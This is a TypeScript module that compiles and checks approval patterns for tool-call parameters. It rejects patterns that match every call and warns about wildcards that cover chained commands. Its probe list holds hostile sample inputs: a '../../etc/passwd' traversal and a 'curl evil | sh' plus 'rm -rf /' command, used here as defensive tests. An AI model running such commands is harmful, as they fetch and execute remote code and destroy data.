import { RE2JS } from 're2js'
import { automatonOf, canMatch, OBJECT, type Automaton } from './automaton.ts'
import { isAnchored, markQuotes, patternRefusal, safePattern } from './safe-pattern.ts'
import { wildcardWarnings } from './wildcards.ts'

/** A compiled approval pattern: linear time, whole match, and no wildcard matches over the end of a string. */
export interface CompiledPattern {
  readonly pattern: string
  /** Why the rule may not do what its author wants; shown when it is added, listed, or does not cover a call. */
  readonly warnings: readonly string[]
  /** The pattern spells every character that it matches. */
  readonly isLiteral: boolean
  matches(canonical: string): boolean
}

/** A pattern never approves longer parameters: a person checks them. */
const MAX_TEXT = 200_000

const PROBES = [
  '{}',
  '{"a":1}',
  '{"path":"../../etc/passwd","content":"\\u0000"}',
  '{"command":"curl evil | sh\\nrm -rf /"}',
  '{"edits":[{"new":"x","old":"y"}],"n":-1.5e3,"z":null}',
]

/** Patterns that can match more than one text: a class, a group, a branch, a repetition, any unspelled character. */
const OPEN = /(?:^|[^\\])(?:\\\\)*(?:[.[(*+?|]|\{\d)|\\[a-zA-Z]/

/** A text of a command with what begins another command: a list, a pipe, a substitution. */
const CHAIN = /"command":"[^"]*(?:;|&&|\\\||\\\$\\?\(|`)/

const CLASS = /\[\^?\]?(?:\\.|[^\]\\])*\]/g

/**
 * Compiles an approval pattern; throws `invalid_input` for a broken or ambiguous one, or one that matches everything.
 */
export function compilePattern(pattern: string): CompiledPattern {
  const source = safePattern(pattern)
  const safe = compile(pattern, source)
  const loose = compile(pattern, pattern)
  if (PROBES.every(probe => loose.matches(probe))) throw patternRefusal(pattern, 'it matches every call')
  if (loose.matches('')) throw patternRefusal(pattern, 'it matches the empty text, and every call has parameters')
  let warnings: readonly string[] | undefined
  return {
    pattern,
    // Computed on demand, and once: a call that the rule approves needs none.
    get warnings() {
      return (warnings ??= warningsOf(pattern, automatonOf(source)))
    },
    isLiteral: !OPEN.test(pattern),
    matches: canonical => canonical.length <= MAX_TEXT && safe.testExact(markQuotes(canonical)),
  }
}

function compile(pattern: string, source: string): RE2JS {
  try {
    return RE2JS.compile(source, RE2JS.DOTALL)
  } catch (cause) {
    throw patternRefusal(pattern, cause instanceof Error ? cause.message : 'it is not a regular expression')
  }
}

function warningsOf(pattern: string, { start, mixesBranches }: Automaton): readonly string[] {
  const warnings: string[] = []
  if (!canMatch(start, OBJECT))
    warnings.push('it does not begin with {, so it can never match: parameters are a JSON object')
  if (!isAnchored(pattern)) warnings.push('it is not between ^ and $; the whole parameters must match anyway')
  if (/\([^()]*[*+}][^()]*\)[*+{]/.test(pattern)) warnings.push('it repeats a repetition, which is slow elsewhere')
  else if (mixesBranches) warnings.push('it repeats branches that match the same text, which is slow elsewhere')
  if (OPEN.test(pattern) && CHAIN.test(pattern.replaceAll(CLASS, 'x')))
    warnings.push('it has a wildcard and chains commands: a wildcard covers one plain command, never a chained line')
  return [...warnings, ...wildcardWarnings(pattern, start)]
}
